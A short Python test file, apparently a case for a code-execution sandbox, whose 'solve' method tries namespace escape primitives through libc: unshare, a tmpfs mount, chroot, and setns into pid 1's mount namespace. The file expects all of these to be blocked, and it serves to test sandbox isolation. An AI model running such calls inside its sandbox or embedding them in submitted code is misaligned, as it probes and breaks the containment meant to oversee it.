# verdict: RE
# attack: new namespaces, setns into pid 1's, mount and chroot through libc
# ruff: noqa
# mypy: ignore-errors
import ctypes

CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000


class Solution:
    def solve(self, n: int) -> int:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
            return -1
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
            return -1
        if libc.chroot(b"/tmp") == 0:
            return -1
        fd = libc.open(b"/proc/1/ns/mnt", 0)
        if fd >= 0 and libc.setns(fd, 0) == 0:
            return -1
        raise OSError(ctypes.get_errno(), "namespaces are closed")
